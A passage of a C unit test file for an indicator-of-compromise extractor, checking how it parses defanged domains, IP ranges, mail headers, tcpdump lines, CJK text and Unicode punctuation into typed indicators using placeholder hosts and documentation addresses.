	    "            by mx.v.net with ESMTP\n",
	    "domain i.evil.net public\ndomain i.evil.net public\n"
	    "ipv4 192.0.2.12 documentation\n");
	/* a blank line in a field ends it; so do 16 KB */
	expect("Received: from a.evil.net\n by mx.v.net\n   \n b.evil.org\n",
	    "domain a.evil.net public\ndomain b.evil.org public\n");
	buf_addstr(&b, "Received: from a\n by b ");
	for (i = 0; i < 17000; i++)
		buf_addstr(&b, "x");
	buf_addstr(&b, "\n c.evil.org\n");
	assert_non_null(p = scan(b.data));
	assert_string_equal(p, "domain c.evil.org public\n");
	free(p);
	/* four names of the receiver in one results field */
	expect("Authentication-Results: mx.v.net; spf=pass (mx.v.net: domain "
	    "of a@evil.ru) smtp.mailfrom=a@evil.ru; dkim=pass (mx.v.net: "
	    "key) header.i=@evil.ru; dmarc=pass (mx.v.net: policy) "
	    "header.from=evil.ru\n",
	    "email a@evil.ru public\nemail a@evil.ru public\n"
	    "domain evil.ru public\ndomain evil.ru public\n");
	/* a hop inside Gmail quoted, its receiver on the next line; no
	 * "from" clause; a link in the receiver's comment; iprev's
	 * comment names the sender; a results field's server glued to
	 * what follows; prose after "Received:" */
	expect("> Received: from mail-sor-f41.google.com (mail-sor-f41.google."
	    "com. [209.85.220.41]) by\n>  mx.google.com with SMTPS id a64\n"
	    "Received: (mail-sor-f41.google.com. [209.85.220.41]) by "
	    "mx.google.com\n"
	    "Received: from t.evil.net (t.evil.net [192.0.2.15]) by mx.v.net "
	    "(Gateway https://gw.v.net/about)\n"
	    "Authentication-Results: mx.v.net; iprev=pass (u.evil.net) "
	    "policy.iprev=192.0.2.16\n"
	    "Authentication-Results: mx.v.net;smtp.mailfrom=b@evil.ru\n"
	    "Received: your report, forwarded by the bank about w.evil.com\n",
	    "domain mail-sor-f41.google.com public\n"
	    "ipv4 209.85.220.41 public\n"
	    "domain t.evil.net public\ndomain t.evil.net public\n"
	    "ipv4 192.0.2.15 documentation\n"
	    "domain u.evil.net public\nipv4 192.0.2.16 documentation\n"
	    "email b@evil.ru public\ndomain w.evil.com public\n");
	/* a field is 32 lines at most: what follows is text */
	buf_reset(&b);
	buf_addstr(&b, "Received: from a\n by b\n");
	for (i = 0; i < 38; i++)
		buf_addstr(&b, " c.evil.org\n");
	assert_non_null(p = scan(b.data));
	for (i = 0, q = p; (q = strstr(q, "domain c.evil.org")) != NULL; q++)
		i++;
	assert_int_equal(i, 8);
	free(p);
	buf_release(&b);
	/* a key that only starts as SPF's receiver= does */
	expect("Received-SPF: none receivers=mx.evil.net",
	    "domain mx.evil.net public\n");
	/* a field that the text ends in */
	expect("Received: from x.evil.net by", "domain x.evil.net public\n");
	expect("Received: from x.evil.net by mx.victim.net",
	    "domain x.evil.net public\n");
	expect("Authentication-Results:", "");
	expect("ARC-Authentication-Results: i=1", "");
	/* ioc_fold_cut: the start of a field that the lines before the
	 * cut are, so that the next part reads it whole */
	assert_int_equal(ioc_fold_cut("x\nReceived: from a (b [192.0.2.1])\n"
	    "\tby c\n", 41), 2);
	assert_int_equal(ioc_fold_cut("x\n> Received: from a\n>   by c\n",
	    30), 2);
	assert_int_equal(ioc_fold_cut("x\nReceived: from a\ntext\n", 24), 24);
	assert_int_equal(ioc_fold_cut("x\n  indented\n", 13), 13);
	assert_int_equal(ioc_fold_cut("Received: from a\n by c\n", 23), 23);
	/* a line too long, cut where it stands; a field that another
	 * line of the same quote ends */
	assert_int_equal(ioc_fold_cut("x\nReceived: from a", 18), 18);
	assert_int_equal(ioc_fold_cut("x\n> Received: from a\n> text\n", 28),
	    28);
}

/* tcpdump's lines, as DDoS reports paste them: "address.port > address.
 * port:" gives both addresses (a reflector's and its victim's); a
 * dotted number alone is an OID or a version. */
static void
test_tcpdump(void **state)
{
	(void)state;
	expect("12:00:01.123456 IP 198.51.100.7.11211 > 203.0.113.5.80: "
	    "UDP, length 1400\n"
	    "    198.51.100.8.123 > 203.0.113.6.4444: NTPv2, length 468\n"
	    "12:00:02.1 IP6 2001:db8::1.443 > 2001:db8::2.53211: Flags [S]\n"
	    "12:00:02.2 IP6 ::ffff:192.0.2.9.53 > 2001:db8::3.5353: 1 A?",
	    "ipv4 198.51.100.7 documentation\nipv4 203.0.113.5 documentation\n"
	    "ipv4 198.51.100.8 documentation\nipv4 203.0.113.6 documentation\n"
	    "ipv6 2001:db8::1 documentation\nipv6 2001:db8::2 documentation\n"
	    "ipv6 ::ffff:192.0.2.9 documentation\n"
	    "ipv6 2001:db8::3 documentation\n");
	/* no tcpdump there: the other side no address and port, no ": "
	 * after the right side, a port too long or too large */
	expect("OID 1.3.6.1.4, 1.2.3.4.5 > x, a > 1.2.3.4.6: b, "
	    "1.2.3.4.7 > 1.2.3.4.8; c 1.2.3.4.9 > 1.2.3.x.1: "
	    "1.2.3.4.123456 > 5.6: 1.2.3.4.65536 > 5.6: "
	    "1.2.3.4.0000443 > 5.6: 1.2.3.4.5 > abc: x 9 > 1.2.3.4.6:; "
	    "2001:db8::1.443 y, 2001:db8::1.2.3 > x", "");
}

static void
test_ranges(void **state)
{
	(void)state;
	expect("hosts 198.51.100.4-198.51.100.10 and 203.0.113.8~20",
	    "cidr 198.51.100.4/30 documentation\n"
	    "cidr 198.51.100.8/31 documentation\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "cidr 203.0.113.8/29 documentation\n"
	    "cidr 203.0.113.16/30 documentation\n"
	    "ipv4 203.0.113.20 documentation\n");
	/* the hosts of a network: the network */
	expect("IP段 58.16.7.1-58.16.7.254, 10.0.0.0-10.255.255.255, "
	    "172.16.0.1~172.31.255.254",
	    "cidr 58.16.7.0/24 public\ncidr 10.0.0.0/8 private\n"
	    "cidr 172.16.0.0/12 private\n");
	/* two hosts are two hosts; a range backwards is two addresses */
	expect("6.6.6.1-6.6.6.2 9.9.9.9-1.1.1.1 8.8.8.8-8.8.8.8",
	    "ipv4 6.6.6.1 public\nipv4 6.6.6.2 public\n"
	    "ipv4 9.9.9.9 public\nipv4 1.1.1.1 public\n"
	    "ipv4 8.8.8.8 public\n");
	/* a word processor's dash (U+2013, U+2011) makes a range too;
	 * backwards, each address where it stands */
	expect("198.51.100.4\u2013198.51.100.10 58.16.7.1\u20113 "
	    "9.9.9.9\u20141.1.1.1",
	    "cidr 198.51.100.4/30 documentation\n"
	    "cidr 198.51.100.8/31 documentation\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "ipv4 58.16.7.1 public\ncidr 58.16.7.2/31 public\n"
	    "ipv4 9.9.9.9 public\nipv4 1.1.1.1 public\n");
	/* two addresses in different /8s are no range (a flow's: as one,
	 * the networks of twelve /8s, each notified), written either way,
	 * unless they make one network */
	expect("192.0.2.1-203.0.113.5 9.16.4.48\u2013198.51.100.7 "
	    "192.0.2.2 - 203.0.113.6 0.0.0.0-255.255.255.255 "
	    "8.0.0.0 - 15.255.255.255 8.0.0.0-16.255.255.255 "
	    "9.255.255.255-10.0.0.0 8.128.0.0-9.127.255.255 "
	    "58.0.0.1-58.255.255.254",
	    "ipv4 192.0.2.1 documentation\nipv4 203.0.113.5 documentation\n"
	    "ipv4 9.16.4.48 public\nipv4 198.51.100.7 documentation\n"
	    "ipv4 192.0.2.2 documentation\nipv4 203.0.113.6 documentation\n"
	    "cidr 0.0.0.0/0 reserved\ncidr 8.0.0.0/5 public\n"
	    "ipv4 8.0.0.0 public\nipv4 16.255.255.255 public\n"
	    "ipv4 9.255.255.255 public\nipv4 10.0.0.0 private\n"
	    "ipv4 8.128.0.0 public\nipv4 9.127.255.255 public\n"
	    "cidr 58.0.0.0/8 public\n");
	/* no range: an octet too big, letters after, versions */
	expect("1.2.3.4-300 1.2.3.5-6x versions 2.0.0.1-2.0.0.9",
	    "ipv4 1.2.3.4 public\nipv4 1.2.3.5 public\n");
	/* IPv6 ranges: their networks; backwards, two addresses; the
	 * whole space one network; no range, the first address */
	expect("2001:db8::10-2001:db8::1f 2001:db8::~2001:db8::ffff:ffff "
	    "2400:cb00::1-2400:cb00::3 2001:db8::5-2001:db8::1",
	    "cidr 2001:db8::10/124 documentation\n"
	    "cidr 2001:db8::/96 documentation\n"
	    "ipv6 2400:cb00::1 public\ncidr 2400:cb00::2/127 public\n"
	    "ipv6 2001:db8::5 documentation\n"
	    "ipv6 2001:db8::1 documentation\n");
	expect("0:0:0:0:0:0:0:0-ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff "
	    "2001:db8::1-x "
	    "2001:db8::2-2001:db8::3z",
	    "cidr ::/0 reserved\nipv6 2001:db8::1 documentation\n"
	    "ipv6 2001:db8::2 documentation\n");
	/* in different /32s: two addresses, unless one network */
	expect("2001:db8::1-2a00::1 2001:db8:ffff:ffff::1-2001:db9::1 "
	    "2000::-2fff:ffff:ffff:ffff:ffff:ffff:ffff:ffff "
	    "2001:db8:8000::-2001:db9:7fff:ffff:ffff:ffff:ffff:ffff",
	    "ipv6 2001:db8::1 documentation\nipv6 2a00::1 public\n"
	    "ipv6 2001:db8:ffff:ffff::1 documentation\n"
	    "ipv6 2001:db9::1 public\ncidr 2000::/4 public\n"
	    "ipv6 2001:db8:8000:: documentation\n"
	    "ipv6 2001:db9:7fff:ffff:ffff:ffff:ffff:ffff public\n");
}

/* Chinese, Japanese and Korean text: full-width forms, the ideographic
 * full stop, and words written against ours without a blank. */
static void
test_cjk(void **state)
{
	(void)state;
	expect("主机ＩＰ：１９２．０．２．１０，域名ｅｖｉｌ．ｃｏｍ",
	    "ipv4 192.0.2.10 documentation defanged\n"
	    "domain evil.com public defanged\n");
	expect("钓鱼网站http：//phish-bank。com/login",
	    "url http://phish-bank.com/login public defanged\n"
	    "domain phish-bank.com public defanged\n");
	expect("ｈｔｔｐ：／／ｐｈｉｓｈ．ｎｅｔ／ａ 邮箱abuse＠isp．cn",
	    "url http://phish.net/a public defanged\n"
	    "domain phish.net public defanged\n"
	    "email abuse@isp.cn public defanged\n");
	/* a sentence's full stop stays one */
	expect("请处理198.51.100.7。谢谢 see example.com。Please",
	    "ipv4 198.51.100.7 documentation\n"
	    "domain example.com documentation\n");
	/* ... and before a number, after one written with ASCII dots
	 * (session 35: "198.51.100.3.2024" gave nothing); an address of
	 * full stops goes on */
	expect("攻击源为198.51.100.3。2024年发现，恶意域名evil.com。3月份，"
	    "地址 203.0.113.5。1个样本，IP 192。0。2。11",
	    "ipv4 198.51.100.3 documentation\n"
	    "domain evil.com public\n"
	    "ipv4 203.0.113.5 documentation\n"
	    "ipv4 192.0.2.11 documentation defanged\n");
	/* ... and before a word no suffix is, after a name or a link
	 * written with ASCII dots (before, "evil.com。then" gave
	 * nothing and a link's path took ".then"); a suffix after one,
	 * or a name of full stops, goes on */
	expect("恶意域名evil.com。then we saw x.evil.net。a, "
	    "http://evil.org/x。then; evil.info。cn www.evil。com。then "
	    "evil。biz/x。php",
	    "domain evil.com public\ndomain x.evil.net public\n"
	    "url http://evil.org/x public\ndomain evil.org public\n"
	    "domain evil.info.cn public defanged\n"
	    "domain www.evil.com public defanged\n"
	    "url http://evil.biz/x.php public defanged\n"
	    "domain evil.biz public defanged\n");
	expect("地址198.51.100.8和evil.org并且1.2.3.4에서 サーバ203.0.113.5を",
	    "ipv4 198.51.100.8 documentation\n"
	    "domain evil.org public\n"
	    "ipv4 1.2.3.4 public\n"
	    "ipv4 203.0.113.5 documentation\n");
	expect("访问http://evil.com/login并输入 https://zh.wikipedia.org/wiki/中国",
	    "url http://evil.com/login public\n"
	    "domain evil.com public\n"
	    "url https://zh.wikipedia.org/wiki/中国 public\n"
	    "domain zh.wikipedia.org public\n");
	/* names of ideographs are names: no break inside them */
	expect("域名 例子.中国", "domain xn--fsqu00a.xn--fiqs8s public\n");
	/* full-width punctuation that is no part of a name stays */
	expect("ｅｖｉｌ（ｃｏｍ） 和／或 ＡＢ：ＣＤ", "");
	/* a dot in full-width or CJK brackets is a defanged dot; words in
	 * brackets stay words */
	expect("evil［.］com evil【.】org evil(。)net 1.2.3【.】4 【通报】 (。)",
	    "domain evil.com public defanged\n"
	    "domain evil.org public defanged\n"
	    "domain evil.net public defanged\n"
	    "ipv4 1.2.3.4 public defanged\n");
}

/* A name or an address with a path and no scheme, a port before it or
 * not: a name's is a link (the URL a browser opens, http://); an
 * address's when the writer defanged it or a port, a second step, a
 * query or a file's extension says so; else the address alone. Names between slashes
 * are each one. Before, both gave the first host alone, and a CVE id in
 * such a path nothing; with a port, the host alone until session 22; a
 * name neither defanged nor "www." gave itself alone until session 33
 * ("bit.ly/3xYz9Ab" gave bit.ly: a takedown of the service, the link
 * lost). */
static void
test_host_paths(void **state)
{
	(void)state;
	expect("Phish: evil[.]com/paypal/login.php?id=3&amp;x=1, then "
	    "www.Bad-Site.com/x/y.html.",
	    "url http://evil.com/paypal/login.php?id=3&x=1 public defanged\n"
	    "domain evil.com public defanged\n"
	    "url http://www.bad-site.com/x/y.html public\n"
	    "domain www.bad-site.com public\n");
	/* a query's "=" cuts the token; the URL goes on past it, and the
	 * tokens after it are read as before */
	expect("see evil[.]com/go?to=evil2[.]com now",
	    "url http://evil.com/go?to=evil2.com public defanged\n"
	    "domain evil.com public defanged\n"
	    "domain evil2.com public defanged\n");
	/* neither defanged nor "www.": a link too; "/" alone: no URL; a
	 * name after "/" is another scheme's host or a pattern's */
	expect("evil.com/login.php evil2[.]com/ and (evil3[.]com/) "
	    "ldap://evil4[.]com/x",
	    "url http://evil.com/login.php public\n"
	    "domain evil.com public\n"
	    "domain evil2.com public defanged\n"
	    "domain evil3.com public defanged\n"
	    "domain evil4.com public defanged\n");
	/* an address: a link when defanged or its path has a second
	 * step; a network or a second address after the slash is what it
	 * was */
	expect("198.51.100[.]7/gate.php?x=1 198.51.100.8/bins/x.arm "
	    "198.51.100[.]9/24 198.51.100.10/cve-2024-1234",
	    "url http://198.51.100.7/gate.php?x=1 documentation defanged\n"
	    "ipv4 198.51.100.7 documentation defanged\n"
	    "url http://198.51.100.8/bins/x.arm documentation\n"
	    "ipv4 198.51.100.8 documentation\n"
	    "cidr 198.51.100.9/24 documentation defanged\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "cve CVE-2024-1234 public\n");
	/* a port between host and path (1 to 65535): a link as a path
	 * alone is; a port with no path, or out of range, is none */
	expect("C2 198.51.100[.]11:8080/gate.php, www.Evil.com:443/x.php "
	    "evil2.com:8080/x.php evil3[.]com:8080/ evil4[.]com:99999/x "
	    "evil5[.]com:0/x 198.51.100[.]12:80 198.51.100.13:8080/bins/y",
	    "url http://198.51.100.11:8080/gate.php documentation defanged\n"
	    "ipv4 198.51.100.11 documentation defanged\n"
	    "url http://www.evil.com:443/x.php public\n"
	    "domain www.evil.com public\n"
	    "url http://evil2.com:8080/x.php public\n"
	    "domain evil2.com public\n"
	    "domain evil3.com public defanged\n"
	    "domain evil4.com public defanged\n"
	    "domain evil5.com public defanged\n"
	    "ipv4 198.51.100.12 documentation defanged\n"
	    "url http://198.51.100.13:8080/bins/y documentation\n"
	    "ipv4 198.51.100.13 documentation\n");
	expect("evil[.]com:65535/a evil[.]net:65536/b evil[.]org:008080/c "
	    "evil[.]info?8080/d evil[.]biz:8080?q=1 www.evil.us:80/:: x",
	    "url http://evil.com:65535/a public defanged\n"
	    "domain evil.com public defanged\n"
	    "domain evil.net public defanged\n"
	    "domain evil.org public defanged\n"
	    "domain evil.info public defanged\n"
	    "domain evil.biz public defanged\n"
	    "domain www.evil.us public\n");
	/* a path that URL trims to "/" (a URL keeps "::" inside only) */
	expect("www.evil.com/:: x", "domain www.evil.com public\n");
	expect("nvd.nist.gov/vuln/detail/CVE-2024-3094",
	    "url http://nvd.nist.gov/vuln/detail/CVE-2024-3094 public\n"
	    "domain nvd.nist.gov public\ncve CVE-2024-3094 public\n");
	/* names between slashes (a last slash is trimmed as a stop is);
	 * a file or an empty part makes a path */
	expect("C2: evil.com/evil.net/evil[.]zip, evil.org/report.zip, "
	    "evil.info/evil.biz/, evil.us//evil.ca",
	    "domain evil.com public\n"
	    "domain evil.net public\n"
	    "domain evil.zip public defanged\n"
	    "url http://evil.org/report.zip public\n"
	    "domain evil.org public\n"
	    "domain evil.info public\n"
	    "domain evil.biz public\n"
	    "url http://evil.us//evil.ca public\n"
	    "domain evil.us public\n");
	/* a name and an address, each way round (a C2's name and where
	 * it pointed); an address with a file after it is a path */
	expect("C2: update.evil.com/203.0.113.5, 198.51.100.7/evil.org, "
	    "evil[.]net/198.51.100[.]8, 198.51.100.9/index.html, "
	    "198.51.100.10/setup.zip, 198.51.100.11/evil.biz/x "
	    "evil.info/198.51.100.12x",
	    "domain update.evil.com public\n"
	    "ipv4 203.0.113.5 documentation\n"
	    "ipv4 198.51.100.7 documentation\n"
	    "domain evil.org public\n"
	    "domain evil.net public defanged\n"
	    "ipv4 198.51.100.8 documentation defanged\n"
	    "url http://198.51.100.9/index.html documentation\n"
	    "ipv4 198.51.100.9 documentation\n"
	    "url http://198.51.100.10/setup.zip documentation\n"
	    "ipv4 198.51.100.10 documentation\n"
	    "url http://198.51.100.11/evil.biz/x documentation\n"
	    "ipv4 198.51.100.11 documentation\n"
	    "url http://evil.info/198.51.100.12x public\n"
	    "domain evil.info public\n");
	/* what a name alone would lose: a shortener's, a paste site's, a
	 * platform's link is the abuse, the service's name no takedown;
	 * ftp. names an FTP server; an address's interface, a table's
	 * country and a rating are no path; an account's host is no
	 * link of its own */
	expect("via bit.ly/3xYz9Ab, pastebin.com/raw/AbCd12 and "
	    "api.telegram.org/bot61:AAH/sendMessage; ftp.evil.com/pub/x.tgz "
	    "198.51.100.7/eth0 198.51.100.8/CN 198.51.100.9/24.5 "
	    "git+ssh://git@git.evil.net/x.git; but one step is a link when "
	    "defanged, 198.51.100[.]10/panel, after a port, "
	    "198.51.100.11:8080/gate, or with a query, 198.51.100.12/gate?id=1",
	    "url http://bit.ly/3xYz9Ab public\n"
	    "domain bit.ly public\n"
	    "url http://pastebin.com/raw/AbCd12 public\n"
	    "domain pastebin.com public\n"
	    "url http://api.telegram.org/bot61:AAH/sendMessage public\n"
	    "domain api.telegram.org public\n"
	    "url ftp://ftp.evil.com/pub/x.tgz public\n"
	    "domain ftp.evil.com public\n"
	    "ipv4 198.51.100.7 documentation\n"
	    "ipv4 198.51.100.8 documentation\n"
	    "ipv4 198.51.100.9 documentation\n"
	    "domain git.evil.net public\n"
	    "url http://198.51.100.10/panel documentation defanged\n"
	    "ipv4 198.51.100.10 documentation defanged\n"
	    "url http://198.51.100.11:8080/gate documentation\n"
	    "ipv4 198.51.100.11 documentation\n"
	    "url http://198.51.100.12/gate?id=1 documentation\n"
	    "ipv4 198.51.100.12 documentation\n");
}

/* U+2024 ONE DOT LEADER for a dot, as spam writes a name that no mail
 * client should link: between a name's letters or digits only. Before,
 * "paypal\u2024com" gave nothing. */
static void
test_leader_dot(void **state)
{
	(void)state;
	expect("Verify at paypal\u2024com or 203\u20240\u2024113\u20245, "
	    "hxxps://Login\u2024Evil\u2024Net/x",
	    "domain paypal.com public defanged\n"
	    "ipv4 203.0.113.5 documentation defanged\n"
	    "url https://login.evil.net/x public defanged\n"
	    "domain login.evil.net public defanged\n");
	/* a leader before or after no name character, or two: no dot */
	expect("evil\u2024 com, evil \u2024com, evil\u2024\u2024com, "
	    "evil\u2024-com, \u2024com", "");
	expect("x@\u2024evil.com user\u2024@evil.net "
	    "http://evil.org/\u2024x http://evil.info/a\u2024/b",
	    "domain evil.com public\ndomain evil.net public\n"
	    "url http://evil.org/ public\ndomain evil.org public\n"
	    "url http://evil.info/a public\ndomain evil.info public\n");
}

/* Marks beyond ASCII that word processors, PDFs and HTML put against a
 * host: each ends it as a blank does (a dash too, but not inside a range
 * or a CVE id), and a PDF's hyphen is a hyphen. Before, each line gave
 * nothing or a name nobody wrote (IDNA's transitional mapping takes "–",
 * "•" and "»" into a label: "xn--foobar-yg0c.com"). */
static void
test_unicode_marks(void **state)
{
	(void)state;
	/* quotes, a no-break space ("&nbsp;"), an ellipsis, a bullet */
	expect("see “bad.com”, «evil.org» and ‘evil.net’",
	    "domain bad.com public\n"
	    "domain evil.org public\n"
	    "domain evil.net public\n");
	expect("host evil.com\xc2\xa0" "is down, 198.51.100.7\xc2\xa0" "too",
	    "domain evil.com public\n"
	    "ipv4 198.51.100.7 documentation\n");
	expect("• bullet.com… and the rest", "domain bullet.com public\n");
	/* a possessive's typographic apostrophe (U+2019) */
	expect("evil.com’s servers", "domain evil.com public\n");
	/* the URL ends at the closing quote, not after it */
	expect("open “http://evil.com/path” or «http://x.org/a»",
	    "url http://evil.com/path public\n"
	    "domain evil.com public\n"
	    "url http://x.org/a public\n"
	    "domain x.org public\n");
	/* bidi marks around a name in Arabic or Hebrew text, and cp1252's
	 * quotes read as Latin-1 (U+0093, U+0094) */
	expect("\xe2\x80\x8f" "evil.com\xe2\x80\x8e and "
	    "\xc2\x93" "evil.net\xc2\x94",
	    "domain evil.com public\n"
	    "domain evil.net public\n");
	/* a dash ends a name and a URL's host; not a path's word */
	expect("evil.com—a site, report–evil.org, http://evil.net—see",
	    "domain evil.com public\n"
	    "domain evil.org public\n"
	    "url http://evil.net public\n"
	    "domain evil.net public\n");
	expect("https://en.wikipedia.org/wiki/Russo–Japanese_War",
	    "url https://en.wikipedia.org/wiki/Russo–Japanese_War public\n"
	    "domain en.wikipedia.org public\n");
	/* ... but a range and a CVE id go on past it, and an address or a
	 * CVE id before it is still read */
	expect("192.0.2.1–192.0.2.3 CVE–2024–3094 198.51.100.8—the end, "
	    "CVE-2021-44228—the bug",
	    "ipv4 192.0.2.1 documentation\n"
	    "cidr 192.0.2.2/31 documentation\n"
	    "cve CVE-2024-3094 public\n"
	    "ipv4 198.51.100.8 documentation\n"
	    "cve CVE-2021-44228 public\n");
	/* the hyphens of a PDF's text (U+2010, U+2011) are '-' in a name */
	expect("my‐site.com http://my‑site.org/login",
	    "domain my-site.com public\n"
	    "url http://my-site.org/login public\n"
	    "domain my-site.org public\n");
}

/* Defanged with a blank either side: "evil [.] com", "abuse (at) evil
 * (dot) com". Each gave nothing (test_spans: their spans). */
static void
test_spaced_defang(void **state)
{
	(void)state;
	expect("evil [.] com, evil (dot) net, 198.51.100 [.] 7, "
	    "hxxp://evil [.] org/x, abuse (at) evil [dot] info",
	    "domain evil.com public defanged\n"
	    "domain evil.net public defanged\n"
	    "ipv4 198.51.100.7 documentation defanged\n"
	    "url http://evil.org/x public defanged\n"
	    "domain evil.org public defanged\n"
	    "email abuse@evil.info public defanged\n");
	/* a spaced dot between words of prose is none: no "the.com",
	 * "a.in", "use.net", "this.it" (prose_dot) */
	expect("During the dot com bubble, one dot in each box; a dot in "
	    "the logo; use dot net. We saw this . It was the server . in "
	    "the logs.", "");
	expect("visit evil dot com, www dot evil dot org or x . io",
	    "domain evil.com public defanged\n"
	    "domain www.evil.org public defanged\n"
	    "domain x.io public defanged\n");
	expect("registered in dot org; visit server dot com, host . "
	    "in (down)",
	    "domain server.com public defanged\n"
	    "domain host.in public defanged\n");
	/* the looser forms ioc-fanger reads, and angle brackets */
	expect("evil [ . ] info, c2 [ . ] evil ( dot ) biz, 198.51.100 "
	    "[ . ] 7",
	    "domain evil.info public defanged\n"
	    "domain c2.evil.biz public defanged\n"
	    "ipv4 198.51.100.7 documentation defanged\n");
	expect("evil].[com, c2[ . ]evil( dot )net, 198.51.100[,]7, "
	    "hxxp://evil<.>org/x",
	    "domain evil.com public defanged\n"
	    "domain c2.evil.net public defanged\n"
	    "ipv4 198.51.100.7 documentation defanged\n"
	    "url http://evil.org/x public defanged\n"
	    "domain evil.org public defanged\n");
}

/* A checksum's line as BSD's md5 and "shasum --tag" write it names a
 * file, whose suffix may be a real one (.app): its hash only. */
static void
test_checksum_lines(void **state)
{
	(void)state;
	expect("MD5 (Payload.app) = d41d8cd98f00b204e9800998ecf8427e\n"
	    "SHA256 (Zoom.app) = e3b0c44298fc1c149afbf4c8996fb92427ae41e4"
	    "649b934ca495991b7852b855",
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n"
	    "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca49599"
	    "1b7852b855 public\n");
	/* sha256sum's and md5sum's lines, quoted in a reply too */
	expect("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852"
	    "b855  Payload.app\n> d41d8cd98f00b204e9800998ecf8427e *Setup.app",
	    "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca49599"
	    "1b7852b855 public\n"
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n");
	/* no checksum's name before it, or a hash not first on its line
	 * or of no hash's length: a host */
	expect("see (evil.app) = bad, x (evil.dev) = 1\n"
	    "x d41d8cd98f00b204e9800998ecf8427e  evil.page\n"
	    "d41d8cd98f00b204e9800998ecf8427  evil.live",
	    "domain evil.app public\ndomain evil.dev public\n"
	    "md5 d41d8cd98f00b204e9800998ecf8427e public\n"
	    "domain evil.page public\ndomain evil.live public\n");
}

/* An advisory's releases are read as versions (test_no_invention);
 * what only looks like such words leaves an address one. */
static void
test_advisory_releases(void **state)
{
	(void)state;
	/* words after an address that say no version, an address after
	 * "and later", a first number of 32 or more; "release" alone (a
	 * DHCP server's) and "than" alone */
	expect("host 198.51.100.7 and others, 9.9.9.9 and later "
	    "9.9.9.10, 32.16.3.24 or later, release 192.0.2.1, than "
	    "192.0.2.3, 9.16.3.30 and earlierx, 100.16.3.25 or later, "
	    "9.16.3.31,and later",
	    "ipv4 198.51.100.7 documentation\nipv4 9.9.9.9 public\n"
	    "ipv4 9.9.9.10 public\nipv4 32.16.3.24 public\n"
	    "ipv4 192.0.2.1 documentation\nipv4 192.0.2.3 documentation\n"
	    "ipv4 9.16.3.30 public\nipv4 100.16.3.25 public\n"
	    "ipv4 9.16.3.31 public\n");
	/* a range to an address, to two numbers, to a first number of 32
	 * or more, to a number of four digits, after "into": addresses;
	 * a first number of 32 or more before it: no version asked */
	expect("from 7.2.5.1 to 10.1.2.3, 7.2.5.2 to 7.2, 7.2.5.3 to "
	    "32.2.8, 7.2.5.4 - 7.2.1000, 7.2.5.5 into 7.2.9, "
	    "7.2.5.6-7.2.5.9, 7.2.5.10 to7.2.11, 7.2.5.11 to 7.2.12.1, "
	    "45.2.5.1 to 7.2.7",
	    "ipv4 7.2.5.1 public\nipv4 10.1.2.3 private\n"
	    "ipv4 7.2.5.2 public\nipv4 7.2.5.3 public\n"
	    "ipv4 7.2.5.4 public\nipv4 7.2.5.5 public\n"
	    "cidr 7.2.5.6/31 public\ncidr 7.2.5.8/31 public\n"
	    "ipv4 7.2.5.10 public\nipv4 7.2.5.11 public\n"
	    "ipv4 7.2.12.1 public\nipv4 45.2.5.1 public\n");
	/* an update's "to" (DNS's), an upgrade with a sentence or four
	 * words before its "to", "release" alone, a comparison to a first
	 * number of 32 or more, a quote's '>', an arrow, "below" glued */
	expect("update DNS to 8.8.8.8", "ipv4 8.8.8.8 public\n");
	expect("upgrade. Point it to 9.1.1.2", "ipv4 9.1.1.2 public\n");
	expect("upgrade a b c d to 9.1.1.4", "ipv4 9.1.1.4 public\n");
	expect("upgrade,it to 9.1.1.5", "ipv4 9.1.1.5 public\n");
	expect("Release 9.1.2.6", "ipv4 9.1.2.6 public\n");
	expect("<= 45.1.2.3", "ipv4 45.1.2.3 public\n");
	expect("> 9.1.2.10 was seen", "ipv4 9.1.2.10 public\n");
	expect("=> 9.1.2.9", "ipv4 9.1.2.9 public\n");
	expect("9.1.2.11 and belowx", "ipv4 9.1.2.11 public\n");
	expect("9.1.2.12 and below 9.1.2.13",
	    "ipv4 9.1.2.12 public\nipv4 9.1.2.13 public\n");
	/* "from" after an update, or with no upgrade; "up to" with words
	 * between; three words after an upgrade's "to"; a first number of
	 * 32 or more; words not after "to" */
	expect("update from 9.1.2.3", "ipv4 9.1.2.3 public\n");
	expect("traffic from 9.1.2.14", "ipv4 9.1.2.14 public\n");
	expect("upgrade,from 9.1.2.15", "ipv4 9.1.2.15 public\n");
	expect("up to two hosts 23.1.2.3", "ipv4 23.1.2.3 public\n");
	expect("upgrade to x y z 9.1.2.4", "ipv4 9.1.2.4 public\n");
	expect("upgrade to DNS 45.1.2.5", "ipv4 45.1.2.5 public\n");
	expect("upgrade into DNS 9.1.2.16", "ipv4 9.1.2.16 public\n");
	expect("upgrade in DNS 9.1.2.25", "ipv4 9.1.2.25 public\n");
	expect("Upgrade to AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA 9.1.2.27",
	    "ipv4 9.1.2.27 public\n");
	expect("to BIG-IP 9.1.2.28", "ipv4 9.1.2.28 public\n");
	expect("upgrade to,DNS 9.1.2.17", "ipv4 9.1.2.17 public\n");
	expect("move to DNS 9.1.2.18", "ipv4 9.1.2.18 public\n");
	expect("upgrade,to BIG-IP 9.1.2.19", "ipv4 9.1.2.19 public\n");
	/* a vendor alone, a word that names what has an address, one in
	 * lowercase, a cloud's owner, a vendor five words back, words
	 * split by punctuation */
	expect("Cisco 9.1.2.29", "ipv4 9.1.2.29 public\n");
	expect("SonicWall VPN Gateway 10.0.0.1 and Fortinet FortiGate DNS "
	    "9.1.2.30, Cisco Umbrella IP 9.1.2.31",
	    "ipv4 10.0.0.1 private\nipv4 9.1.2.30 public\n"
	    "ipv4 9.1.2.31 public\n");
	expect("the Cisco router 9.1.2.32", "ipv4 9.1.2.32 public\n");
	/* an XML document's own URLs: its namespaces' names, its schemas'
	 * places, its DTD (each gave a URL and w3.org's or mitre.org's
	 * name); a link's target, an attribute's other value and prose's
	 * stay */
	expect("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
	    "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n"
